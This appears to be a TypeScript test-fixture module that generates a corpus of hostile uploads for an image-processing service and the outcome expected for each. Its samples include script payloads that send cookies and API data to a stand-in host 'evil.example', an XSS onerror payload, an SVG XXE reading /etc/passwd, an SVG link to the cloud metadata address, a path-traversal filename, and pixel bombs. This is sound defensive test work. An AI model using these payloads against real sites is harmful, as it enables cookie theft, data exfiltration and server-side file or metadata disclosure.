/**
 * The hostile-input corpus: every file a careless or malicious person might hand Prism, generated
 * deterministically (same bytes every run), each with the outcome Prism must reach. Tests run it
 * through the real path (presign → PUT → processor → record); docs/hostile-inputs.md is its report.
 *
 * scripts/hostile-corpus.ts writes the cases to a folder or prints the report.
 *
 * Outcomes depend on the pixel limit, so the corpus is built for `hostileLimits`: the stack that
 * runs it must use the same `PRISM_MAX_INPUT_PIXELS`.
 */
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { orientedJpeg, photoLikePixels, quadrantPixels, seededRandom } from "./fixtures.ts";
import { writeGif } from "./gif.ts";
import { animatedAvif } from "./animated-avif.ts";
import { makeHeic, minimalHeic } from "./heic.ts";

/** A small pixel limit, so "exactly at" and "one over" the limit are cheap images. */
export const hostileLimits = { maxInputPixels: 1_000_000 } as const;

export type HostileExpectation =
  /** `POST /api/uploads` refuses the request: no URL, no record. */
  | { readonly outcome: "refused"; readonly status: number; readonly code: string; readonly message: RegExp }
  | { readonly outcome: "failed"; readonly code: string; readonly message: RegExp }
  | {
      readonly outcome: "ready";
      readonly format: string;
      /** As people see it (after EXIF orientation). */
      readonly width: number;
      readonly height: number;
      /** Variants of the widths (widths × formats); the plan's named crops are made besides, in every format. */
      readonly widthVariants: number;
      readonly frames?: number;
      readonly hasAlpha?: boolean;
    };

export interface HostileCase {
  readonly id: string;
  /** What the file is, for the report. */
  readonly title: string;
  readonly filename: string;
  /** The type the browser declares in `POST /api/uploads`. */
  readonly contentType: string;
  readonly bytes: Buffer;
  /** The size declared in `POST /api/uploads`, when it differs from what is PUT. */
  readonly declaredSize?: number;
  readonly expect: HostileExpectation;
  /** Why this outcome is the right one, for the report. */
  readonly why: string;
}

const incomplete = /incomplete: it ends before the picture does/;
const notAnImage = /^This file is not an image Prism recognises: its contents match no supported format\./;

/** Every case, in report order. Deterministic: no clock, no unseeded randomness. */
export async function hostileCorpus(): Promise<HostileCase[]> {
  const jpeg = await photoJpegOf(640, 480, 7);
  const png = await sharp(photoLikePixels(320, 200, 8), { raw: { width: 320, height: 200, channels: 3 } }).png().toBuffer();
  const zip = storedZip("readme.txt", Buffer.from("This is a ZIP archive, not a picture.\n"));
  const upright = quadrantPixels(64, 48);
  const { maxInputPixels } = hostileLimits;

  const cases: HostileCase[] = [
    {
      id: "zero-byte",
      title: "Zero-byte file",
      filename: "empty.jpg",
      contentType: "image/jpeg",
      bytes: Buffer.alloc(0),
      expect: { outcome: "refused", status: 400, code: "invalid_request", message: /^The file is empty \(0 bytes\)\.$/ },
      why: "Nothing to process; refused before a URL is issued.",
    },
    {
      id: "zero-byte-put",
      title: "Zero bytes PUT to a URL issued for 2 KB",
      filename: "vanished.jpg",
      contentType: "image/jpeg",
      bytes: Buffer.alloc(0),
      declaredSize: 2048,
      expect: { outcome: "failed", code: "empty_file", message: /^The file is empty \(0 bytes\)\./ },
      why: "S3 refuses it in AWS (the signature covers content-length); the processor refuses it too.",
    },
    truncated("truncated-jpeg-header", "JPEG cut after 20 bytes (header only)", jpeg.subarray(0, 20), "cut.jpg", "image/jpeg"),
    truncated("truncated-jpeg-half", "JPEG cut at half its length", jpeg.subarray(0, jpeg.length >> 1), "cut.jpg", "image/jpeg"),
    truncated("truncated-jpeg-no-eoi", "JPEG missing only its last 2 bytes (end marker)", jpeg.subarray(0, jpeg.length - 2), "cut.jpg", "image/jpeg"),
    {
      id: "truncated-png-signature",
      title: "PNG cut after its 8-byte signature",
      filename: "cut.png",
      contentType: "image/png",
      bytes: png.subarray(0, 8),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is not an image Prism recognises/ },
      why: "Eight bytes are too few to call it a PNG: nothing of the picture arrived.",
    },
    truncated("truncated-png-half", "PNG cut at half its length", png.subarray(0, png.length >> 1), "cut.png", "image/png"),
    {
      id: "truncated-png-no-iend",
      title: "PNG missing only its IEND chunk",
      filename: "no-end.png",
      contentType: "image/png",
      bytes: png.subarray(0, png.length - 12),
      expect: { outcome: "ready", format: "png", width: 320, height: 200, widthVariants: 3 },
      why: "Every pixel is present; only the end marker is missing, so the picture is complete.",
    },
    {
      id: "random-bytes",
      title: "4 KB of random bytes named .jpg",
      filename: "photo.jpg",
      contentType: "image/jpeg",
      bytes: randomBytes(4096, 99),
      expect: { outcome: "failed", code: "unsupported_format", message: notAnImage },
      why: "The real format is read from the bytes, never from the name or declared type.",
    },
    {
      id: "html-as-png",
      title: "HTML page declared as image/png",
      filename: "page.png",
      contentType: "image/png",
      bytes: Buffer.from('<!DOCTYPE html><html><body><img src=x onerror="alert(document.cookie)"></body></html>'),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is a web page \(HTML\), not an image\./ },
      why: "Never decoded, never served: only variants Prism encodes itself are served.",
    },
    {
      id: "script-as-png",
      title: "A bare <script> tag declared as image/png",
      filename: "x.png",
      contentType: "image/png",
      bytes: Buffer.from("<script>fetch('/api/images').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is a web page \(HTML\), not an image\./ },
      why: "Script markup is recognised as HTML.",
    },
    {
      id: "javascript-as-jpeg",
      title: "Plain JavaScript declared as image/jpeg",
      filename: "x.jpg",
      contentType: "image/jpeg",
      bytes: Buffer.from("document.location='https://evil.example/?c='+document.cookie;\n"),
      expect: { outcome: "failed", code: "unsupported_format", message: notAnImage },
      why: "No image signature at all.",
    },
    {
      id: "zip-as-png",
      title: "ZIP archive declared as image/png",
      filename: "archive.png",
      contentType: "image/png",
      bytes: zip,
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is a ZIP archive, not an image Prism can read\./ },
      why: "Recognised by its signature and named, so the person knows what they picked.",
    },
    {
      id: "pdf-as-jpeg",
      title: "PDF document declared as image/jpeg",
      filename: "scan.jpg",
      contentType: "image/jpeg",
      bytes: Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is a PDF document, not an image Prism can read\./ },
      why: "Recognised by its signature and named.",
    },
    {
      id: "bmp-as-jpeg",
      title: "BMP image declared as image/jpeg",
      filename: "old.jpg",
      contentType: "image/jpeg",
      bytes: await bmp(16, 8),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This file is a BMP image, a format Prism can't process\./ },
      why: "An image, but not a format on the allow-list.",
    },
    {
      id: "jpeg-zip-polyglot",
      title: "JPEG/ZIP polyglot (a ZIP appended to a JPEG)",
      filename: "polyglot.jpg",
      contentType: "image/jpeg",
      bytes: Buffer.concat([jpeg, zip]),
      expect: { outcome: "ready", format: "jpeg", width: 640, height: 480, widthVariants: 6 },
      why: "A JPEG decoder stops at the end marker; the variants are re-encoded pixels, so the ZIP is gone from everything served.",
    },
    svg("svg-script", "SVG with <script>", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>'),
    svg(
      "svg-xxe",
      "SVG with an external entity (XXE)",
      '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="20"><text y="15">&secret;</text></svg>',
    ),
    svg(
      "svg-xlink",
      "SVG referencing other files with xlink:href",
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="file:///etc/passwd" width="10" height="10"/><image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/></svg>',
    ),
    {
      id: "pixel-bomb-png",
      title: "Pixel bomb: 50 000 × 50 000 PNG in a few hundred bytes",
      filename: "bomb.png",
      contentType: "image/png",
      bytes: pngBomb(50_000, 50_000),
      expect: { outcome: "failed", code: "too_many_pixels", message: /^The image is 50000 × 50000 pixels \(2500 megapixels\); the limit is 1 megapixel\./ },
      why: "Refused from the header, before anything is decoded: 7.5 GB of pixels are never allocated.",
    },
    {
      id: "pixel-bomb-jpeg",
      title: "Pixel bomb: JPEG header claiming 65 000 × 65 000",
      filename: "bomb.jpg",
      contentType: "image/jpeg",
      bytes: jpegWithDimensions(await photoJpegOf(16, 16, 3), 65_000, 65_000),
      expect: { outcome: "failed", code: "too_many_pixels", message: /^The image is 65000 × 65000 pixels/ },
      why: "Same header check for every format.",
    },
    {
      id: "at-pixel-limit",
      title: `Exactly at the pixel limit (1000 × 1000 = ${maxInputPixels})`,
      filename: "at-limit.png",
      contentType: "image/png",
      bytes: await flatPng(1000, 1000),
      expect: { outcome: "ready", format: "png", width: 1000, height: 1000, widthVariants: 9 },
      why: "The limit is inclusive.",
    },
    {
      id: "over-pixel-limit",
      title: `One pixel over the limit (9901 × 101 = ${maxInputPixels + 1})`,
      filename: "over-limit.png",
      contentType: "image/png",
      bytes: await flatPng(9901, 101),
      expect: { outcome: "failed", code: "too_many_pixels", message: /^The image is 9901 × 101 pixels \(1,000,001 pixels\); the limit is 1,000,000 pixels\. Upload a smaller image\.$/ },
      why: "One pixel over is over.",
    },
    ready("one-pixel", "1 × 1 PNG", "dot.png", "image/png", await flatPng(1, 1), { format: "png", width: 1, height: 1, widthVariants: 3 }, "Never enlarged: one width, the original's."),
    ready(
      "panorama",
      "20 000 × 10 panorama",
      "strip.png",
      "image/png",
      await flatPng(20_000, 10),
      { format: "png", width: 20_000, height: 10, widthVariants: 12 },
      "Every planned width; heights round to at least one pixel.",
    ),
    ready(
      "cmyk-jpeg",
      "CMYK JPEG (print export)",
      "print.jpg",
      "image/jpeg",
      await sharp(await photoJpegOf(400, 300, 4)).withIccProfile("cmyk").toColourspace("cmyk").jpeg({ quality: 90 }).toBuffer(),
      { format: "jpeg", width: 400, height: 300, widthVariants: 6 },
      "Converted to sRGB through its ICC profile, so colours survive on screens.",
    ),
    ready(
      "png-16bit-alpha",
      "16-bit PNG with alpha",
      "deep.png",
      "image/png",
      await sharp(photoLikePixels(300, 200, 5), { raw: { width: 300, height: 200, channels: 3 } }).ensureAlpha(0.5).toColourspace("rgb16").png().toBuffer(),
      { format: "png", width: 300, height: 200, widthVariants: 3, hasAlpha: true },
      "Reduced to 8 bits per channel; transparency kept in WebP and PNG, flattened on white in JPEG.",
    ),
    ready(
      "grayscale-jpeg",
      "Grayscale JPEG",
      "grey.jpg",
      "image/jpeg",
      await sharp(await photoJpegOf(400, 300, 6)).greyscale().jpeg().toBuffer(),
      { format: "jpeg", width: 400, height: 300, widthVariants: 6 },
      "Decoded to sRGB like any other.",
    ),
    ready(
      "palette-png-transparent",
      "Palette PNG with transparency",
      "icon.png",
      "image/png",
      await sharp(quadrantPixels(96, 64), { raw: { width: 96, height: 64, channels: 3 } }).ensureAlpha(0.4).png({ palette: true, colours: 16 }).toBuffer(),
      { format: "png", width: 96, height: 64, widthVariants: 3, hasAlpha: true },
      "Transparency kept.",
    ),
    ready(
      "interlaced-png",
      "Interlaced (Adam7) PNG",
      "interlaced.png",
      "image/png",
      await sharp(photoLikePixels(400, 300, 9), { raw: { width: 400, height: 300, channels: 3 } }).png({ progressive: true }).toBuffer(),
      { format: "png", width: 400, height: 300, widthVariants: 6 },
      "Decoded like any PNG.",
    ),
    ready(
      "animated-gif",
      "Animated GIF (4 frames)",
      "anim.gif",
      "image/gif",
      await animation(4, 48, 32, "gif"),
      { format: "gif", width: 48, height: 32, widthVariants: 3, frames: 4 },
      "Variants are still images of the first frame (see README, \"Animated images\").",
    ),
    ready(
      "animated-webp",
      "Animated WebP (4 frames)",
      "anim.webp",
      "image/webp",
      await animation(4, 48, 32, "webp"),
      { format: "webp", width: 48, height: 32, widthVariants: 3, frames: 4 },
      "First frame, as for GIF.",
    ),
    ready(
      "gif-many-frames",
      "GIF with 300 frames",
      "long.gif",
      "image/gif",
      await animation(300, 24, 16, "gif"),
      { format: "gif", width: 24, height: 16, widthVariants: 3, frames: 300 },
      "Only the first frame is decoded, so frame count costs nothing.",
    ),
    ...(await Promise.all(
      [1, 2, 3, 4, 5, 6, 7, 8].map(async (orientation) =>
        ready(
          `exif-orientation-${orientation}`,
          `JPEG with EXIF orientation ${orientation}`,
          `oriented-${orientation}.jpg`,
          "image/jpeg",
          await orientedJpeg(upright, 64, 48, orientation),
          { format: "jpeg", width: 64, height: 48, widthVariants: 3 },
          "Turned upright as phones show it; variants carry no orientation tag.",
        ),
      ),
    )),
    ready(
      "display-p3-jpeg",
      "Wide-gamut Display P3 JPEG (ICC profile)",
      "p3.jpg",
      "image/jpeg",
      await sharp(await photoJpegOf(400, 300, 10)).withIccProfile("p3").jpeg({ quality: 90 }).toBuffer(),
      { format: "jpeg", width: 400, height: 300, widthVariants: 6 },
      "Converted to sRGB, the colour space every browser assumes for untagged images.",
    ),
    ready(
      "heic",
      "HEIC photo (iPhone: 10-bit, stored sideways, irot + EXIF orientation 6)",
      "IMG_0001.HEIC",
      // Browsers on Windows, Linux and Android name no type; the page then declares it from the extension.
      "image/heic",
      await makeHeic({ seed: 13, width: 400, height: 300, bitDepth: 10, orientation: 6 }),
      { format: "heic", width: 300, height: 400, widthVariants: 3, hasAlpha: false },
      "Decoded by libheif in WebAssembly (sharp's libvips has no HEVC decoder), upright, then the same pipeline as a JPEG.",
    ),
    {
      id: "heic-av1",
      title: "HEIF with an AV1 picture under the heic brand",
      filename: "IMG_0002.HEIC",
      contentType: "image/jpeg",
      bytes: await heicContainer(),
      expect: { outcome: "failed", code: "corrupt_image", message: /^This HEIC file can't be read: it is damaged, or it is a kind of HEIC Prism doesn't support\./ },
      why: "The HEIC decoder holds HEVC only; the person is told what to do instead. (Declared as image/jpeg: browsers often do.)",
    },
    {
      id: "heic-zero-size",
      title: "HEIC whose `ispe` box says 0 × 0 pixels (about 250 bytes)",
      filename: "IMG_0003.HEIC",
      contentType: "image/heic",
      bytes: minimalHeic(0, 0),
      expect: { outcome: "failed", code: "corrupt_image", message: /^This HEIC file can't be read: it is damaged, or it is a kind of HEIC Prism doesn't support\./ },
      why: "A header of no size describes no picture: damaged, failed at once from the header, never retried as if the fault were ours.",
    },
    ready("tiff", "TIFF", "scan.tif", "image/tiff", await sharp(await photoJpegOf(400, 300, 11)).tiff().toBuffer(), { format: "tiff", width: 400, height: 300, widthVariants: 6 }, "On the allow-list."),
    ready("avif", "AVIF", "photo.avif", "image/avif", await sharp(await photoJpegOf(400, 300, 12)).avif({ quality: 50, effort: 0 }).toBuffer(), { format: "avif", width: 400, height: 300, widthVariants: 6 }, "On the allow-list."),
    ready(
      "tall-screenshot",
      "Long screenshot, 50 × 20 000 PNG (taller than WebP's 16 383 px limit)",
      "scroll.png",
      "image/png",
      await flatPng(50, 20_000),
      { format: "png", width: 50, height: 20_000, widthVariants: 3 },
      "Every variant fits every encoder: the tall one is shrunk to 16 383 px high (41 wide), the whole page still there.",
    ),
    ready(
      "gif-one-by-65535",
      "1 × 65 535 GIF (the largest height GIF allows)",
      "line.gif",
      "image/gif",
      await sharp({ create: { width: 1, height: 65_535, channels: 3, background: { r: 200, g: 40, b: 40 } } }).gif().toBuffer(),
      { format: "gif", width: 1, height: 65_535, widthVariants: 3 },
      "Shrunk to 16 383 px high; a side never goes below one pixel.",
    ),
    ready(
      "gif-partial-first-frame",
      "GIF whose first frame covers part of its canvas (no transparent colour)",
      "sticker.gif",
      "image/gif",
      writeGif({
        width: 40,
        height: 30,
        palette: [[0, 0, 0], [230, 30, 30], [40, 60, 230], [255, 255, 255]],
        backgroundIndex: 1,
        frames: [
          { left: 10, top: 5, width: 20, height: 20, indices: Array.from({ length: 400 }, (_, index) => 2 + (index % 2)), delay: 50 },
          { left: 0, top: 0, width: 40, height: 30, indices: Array<number>(1200).fill(1), delay: 50 },
        ],
      }),
      { format: "gif", width: 40, height: 30, widthVariants: 3, frames: 2, hasAlpha: true },
      "The canvas around the first frame is transparent, as browsers show it (not black, not the background colour).",
    ),
    ready(
      "animated-avif",
      "Animated AVIF (3 frames, `avis`, first frame also the still item)",
      "anim.avif",
      "image/avif",
      await animatedAvif(48, 32, ["#c03030", "#3030c0", "#30c030"]),
      { format: "avif", width: 48, height: 32, widthVariants: 3, frames: 3 },
      "First frame, as for GIF and WebP (libvips is handed the file under the still-image brand it recognises).",
    ),
    {
      id: "animated-avif-no-still",
      title: "Animated AVIF with no still item (a track only)",
      filename: "track.avif",
      contentType: "image/avif",
      bytes: await animatedAvif(48, 32, ["#c03030", "#3030c0"], { withStillItem: false }),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This AVIF file is an animation without a still first frame, a kind of AVIF Prism can't process\./ },
      why: "libheif decodes still items only; said plainly, not called damaged.",
    },
    ready("apng", "Animated PNG (APNG, 2 frames)", "anim.png", "image/png", await apng(48, 32), { format: "png", width: 48, height: 32, widthVariants: 3 }, "A PNG to every browser (its first frame is the picture): processed as PNG."),
    {
      id: "jpeg-12-bit",
      title: "12-bit JPEG (extended precision frame header)",
      filename: "medical.jpg",
      contentType: "image/jpeg",
      bytes: jpegWithPrecision(await photoJpegOf(32, 16, 14), 12),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This JPEG file uses 12 bits per channel, a kind of JPEG Prism can't process\. Export it as an ordinary 8-bit JPEG or PNG/ },
      why: "This sharp build decodes 8-bit JPEG only. Decided from the frame header (the test file carries a 12-bit header), so a valid file is never called damaged.",
    },
    {
      id: "tiff-cielab-8bit",
      title: "8-bit CIELAB TIFF",
      filename: "lab.tif",
      contentType: "image/tiff",
      bytes: labTiff(16, 8, 8),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This TIFF file stores its colours as CIELAB, a kind of TIFF Prism can't process\./ },
      why: "libvips reads 8-bit CIELAB TIFF only in its own packed layout; said plainly, not called damaged.",
    },
    ready("tiff-cielab-16bit", "16-bit CIELAB TIFF", "lab16.tif", "image/tiff", labTiff(16, 8, 16), { format: "tiff", width: 16, height: 8, widthVariants: 3 }, "Converted from L*a*b* to sRGB."),
    {
      id: "tiff-strip-past-end",
      title: "TIFF whose pixel data lies past the end of the file",
      filename: "broken.tif",
      contentType: "image/tiff",
      bytes: tiffWithStripOffset(await sharp(await photoJpegOf(16, 8, 15)).tiff().toBuffer(), 0xfffff0),
      expect: { outcome: "failed", code: "corrupt_image", message: /^This TIFF file can't be read: it is damaged, or it is a kind of TIFF Prism doesn't support\.[^(]*$/ },
      why: "The decoder's own words (`source: bad seek …`) go to the logs, not to the person.",
    },
    {
      id: "png-corrupt-header",
      title: "PNG whose header says 0 × 0 pixels",
      filename: "zero.png",
      contentType: "image/png",
      bytes: (() => {
        const bytes = Buffer.from(png);
        bytes.fill(0, 16, 24); // IHDR width and height
        return bytes;
      })(),
      expect: { outcome: "failed", code: "corrupt_image", message: /^This PNG file can't be read: it is damaged, or it is a kind of PNG Prism doesn't support\.[^(]*$/ },
      why: "Not `Input buffer has corrupt header:`, libvips' words: they go to the logs.",
    },
    {
      id: "tiff-unknown-compression",
      title: "TIFF with a compression scheme no decoder knows (12345)",
      filename: "odd.tif",
      contentType: "image/tiff",
      bytes: tiffWithTag(await sharp(await photoJpegOf(16, 8, 16)).tiff().toBuffer(), 259, 12345),
      expect: { outcome: "failed", code: "unsupported_format", message: /^This TIFF file uses a compression scheme the decoder lacks, a kind of TIFF Prism can't process\./ },
      why: "libtiff says the scheme is not implemented: a kind of TIFF, not damage.",
    },
    ready(
      "declared-type-mismatch",
      "PNG declared as image/jpeg",
      "actually-png.jpg",
      "image/jpeg",
      png,
      { format: "png", width: 320, height: 200, widthVariants: 3 },
      "Processed as what it really is; the record's facts say png.",
    ),
    ready(
      "hostile-filename",
      "Filename with ../, <script>, emoji and 300 characters",
      `../../etc/${"<script>alert('x')</script>"}🦄${"a".repeat(300 - 38)}.png`,
      "image/png",
      await flatPng(40, 30),
      { format: "png", width: 40, height: 30, widthVariants: 3 },
      "The name is only displayed (escaped), never part of a key: directories dropped, cut to 200 characters keeping the extension.",
    ),
  ];
  return cases;

  function truncated(id: string, title: string, bytes: Buffer, filename: string, contentType: string): HostileCase {
    return { id, title, filename, contentType, bytes, expect: { outcome: "failed", code: "corrupt_image", message: incomplete }, why: "Decoding fails on an error, never on a guess: no half-grey variants." };
  }

  function svg(id: string, title: string, text: string): HostileCase {
    return {
      id,
      title,
      filename: `${id}.png`,
      contentType: "image/png",
      bytes: Buffer.from(text),
      expect: { outcome: "failed", code: "svg_not_allowed", message: /^SVG files are not accepted: they can carry scripts and links to other files\./ },
      why: "Recognised from its bytes and never rendered, so its script, entities and links are never followed.",
    };
  }

  function ready(
    id: string,
    title: string,
    filename: string,
    contentType: string,
    bytes: Buffer,
    expect: Omit<Extract<HostileExpectation, { outcome: "ready" }>, "outcome">,
    why: string,
  ): HostileCase {
    return { id, title, filename, contentType, bytes, expect: { outcome: "ready", ...expect }, why };
  }
}

function photoJpegOf(width: number, height: number, seed: number): Promise<Buffer> {
  return sharp(photoLikePixels(width, height, seed), { raw: { width, height, channels: 3 } }).jpeg({ quality: 85 }).toBuffer();
}

function randomBytes(length: number, seed: number): Buffer {
  const random = seededRandom(seed);
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}

function flatPng(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 40, g: 120, b: 200 } } }).png().toBuffer();
}

async function animation(frames: number, width: number, height: number, format: "gif" | "webp"): Promise<Buffer> {
  const pages = await Promise.all(
    Array.from({ length: frames }, (_, index) =>
      sharp({ create: { width, height, channels: 3, background: { r: (index * 37) % 256, g: (index * 91) % 256, b: 128 } } }).png().toBuffer(),
    ),
  );
  const joined = sharp(pages, { join: { animated: true } });
  return format === "gif" ? joined.gif().toBuffer() : joined.webp({ quality: 80 }).toBuffer();
}

/**
 * A two-frame APNG built from sharp's PNG: `acTL` after `IHDR`, the `IDAT` as frame 0 (so it is
 * also the default image), then a second frame in `fdAT`. What any APNG encoder writes.
 */
async function apng(width: number, height: number): Promise<Buffer> {
  const [first, second] = await Promise.all(
    [0, 1].map((index) => sharp({ create: { width, height, channels: 3, background: { r: 200 * index, g: 90, b: 40 } } }).png().toBuffer()),
  );
  const idat = (png: Buffer) => pngChunks(png).filter((chunk) => chunk.type === "IDAT").map((chunk) => chunk.data);
  const frameControl = (sequence: number) => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence, 0);
    data.writeUInt32BE(width, 4);
    data.writeUInt32BE(height, 8);
    data.writeUInt16BE(1, 20); // delay 1/10 s
    data.writeUInt16BE(10, 22);
    return pngChunk("fcTL", data);
  };
  const animationControl = Buffer.alloc(8);
  animationControl.writeUInt32BE(2, 0);
  const ihdr = pngChunks(first!).find((chunk) => chunk.type === "IHDR")!;
  const sequenced = (sequence: number, data: Buffer) => {
    const out = Buffer.concat([Buffer.alloc(4), data]);
    out.writeUInt32BE(sequence, 0);
    return out;
  };
  return Buffer.concat([
    first!.subarray(0, 8),
    pngChunk("IHDR", ihdr.data),
    pngChunk("acTL", animationControl),
    frameControl(0),
    ...idat(first!).map((data) => pngChunk("IDAT", data)),
    frameControl(1),
    ...idat(second!).map((data, index) => pngChunk("fdAT", sequenced(2 + index, data))),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

function pngChunks(png: Buffer): { type: string; data: Buffer }[] {
  const chunks: { type: string; data: Buffer }[] = [];
  for (let offset = 8; offset + 12 <= png.length; ) {
    const length = png.readUInt32BE(offset);
    chunks.push({ type: png.toString("latin1", offset + 4, offset + 8), data: png.subarray(offset + 8, offset + 8 + length) });
    offset += 12 + length;
  }
  return chunks;
}

/** Sets one SHORT or LONG tag of the first directory of a little-endian TIFF (as sharp writes it). */
function tiffWithTag(tiff: Buffer, tag: number, value: number): Buffer {
  const out = Buffer.from(tiff);
  const directory = out.readUInt32LE(4);
  for (let index = 0; index < out.readUInt16LE(directory); index += 1) {
    const entry = directory + 2 + index * 12;
    if (out.readUInt16LE(entry) !== tag) continue;
    if (out.readUInt16LE(entry + 2) === 3) out.writeUInt16LE(value, entry + 8);
    else out.writeUInt32LE(value, entry + 8);
    return out;
  }
  throw new Error(`tag ${tag} not found`);
}

function tiffWithStripOffset(tiff: Buffer, offset: number): Buffer {
  return tiffWithTag(tiff, 273, offset);
}

/** Rewrites a baseline JPEG's frame header to claim `precision` bits per sample (SOF1, extended). */
function jpegWithPrecision(jpeg: Buffer, precision: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let offset = 2; offset < out.length - 9; ) {
    const marker = out[offset + 1]!;
    if (marker === 0xc0) {
      out[offset + 1] = 0xc1;
      out[offset + 4] = precision;
      return out;
    }
    offset += 2 + out.readUInt16BE(offset + 2);
  }
  throw new Error("no baseline frame header found");
}

/**
 * An uncompressed little-endian TIFF with PhotometricInterpretation CIELab (8): a mid-grey-green,
 * L* 50, a* −20, b* 10, at 8 or 16 bits per sample (a* and b* are signed, as TIFF defines them).
 */
function labTiff(width: number, height: number, bits: 8 | 16): Buffer {
  const bytesPerSample = bits / 8;
  const pixels = Buffer.alloc(width * height * 3 * bytesPerSample);
  for (let pixel = 0; pixel < width * height; pixel += 1) {
    const offset = pixel * 3 * bytesPerSample;
    if (bits === 8) {
      pixels.writeUInt8(Math.round((50 / 100) * 255), offset);
      pixels.writeInt8(-20, offset + 1);
      pixels.writeInt8(10, offset + 2);
    } else {
      pixels.writeUInt16LE(Math.round((50 / 100) * 65535), offset);
      pixels.writeInt16LE(-20 * 256, offset + 2);
      pixels.writeInt16LE(10 * 256, offset + 4);
    }
  }
  // Tags in ascending order: (tag, type 3 = SHORT / 4 = LONG, count, value or offset).
  const entryCount = 10;
  const directoryEnd = 8 + 2 + entryCount * 12 + 4;
  const bitsOffset = directoryEnd;
  const dataOffset = bitsOffset + 6;
  const entries: [number, number, number, number][] = [
    [256, 3, 1, width],
    [257, 3, 1, height],
    [258, 3, 3, bitsOffset],
    [259, 3, 1, 1], // no compression
    [262, 3, 1, 8], // CIELab
    [273, 4, 1, dataOffset],
    [277, 3, 1, 3],
    [278, 3, 1, height],
    [279, 4, 1, pixels.length],
    [284, 3, 1, 1], // chunky
  ];
  const directory = Buffer.alloc(2 + entryCount * 12 + 4);
  directory.writeUInt16LE(entryCount, 0);
  entries.forEach(([tag, type, count, value], index) => {
    const entry = 2 + index * 12;
    directory.writeUInt16LE(tag, entry);
    directory.writeUInt16LE(type, entry + 2);
    directory.writeUInt32LE(count, entry + 4);
    if (type === 3 && count === 1) directory.writeUInt16LE(value, entry + 8);
    else directory.writeUInt32LE(value, entry + 8);
  });
  const bitsPerSample = Buffer.alloc(6);
  for (let sample = 0; sample < 3; sample += 1) bitsPerSample.writeUInt16LE(bits, sample * 2);
  return Buffer.concat([Buffer.from([0x49, 0x49, 42, 0, 8, 0, 0, 0]), directory, bitsPerSample, pixels]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid PNG header for `width` × `height` followed by one compressed row: tiny file, huge claim. */
function pngBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, adaptive filtering, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.alloc(1 + width * 3), { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Rewrites the frame header (SOF0/SOF2) of a JPEG to claim other dimensions. */
function jpegWithDimensions(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let offset = 2; offset < out.length - 9; ) {
    if (out[offset] !== 0xff) throw new Error("not a JPEG marker");
    const marker = out[offset + 1]!;
    const length = out.readUInt16BE(offset + 2);
    if (marker === 0xc0 || marker === 0xc2) {
      out.writeUInt16BE(height, offset + 5);
      out.writeUInt16BE(width, offset + 7);
      return out;
    }
    offset += 2 + length;
  }
  throw new Error("no frame header found");
}

/** A one-file ZIP archive, stored (no compression), built by hand so it is byte-for-byte stable. */
function storedZip(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localSize = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

/** A 16 × 8 24-bit BMP, written by hand. */
async function bmp(width: number, height: number): Promise<Buffer> {
  const rowBytes = Math.ceil((width * 3) / 4) * 4;
  const pixels = Buffer.alloc(rowBytes * height, 0x80);
  const header = Buffer.alloc(54);
  header.write("BM", 0, "latin1");
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
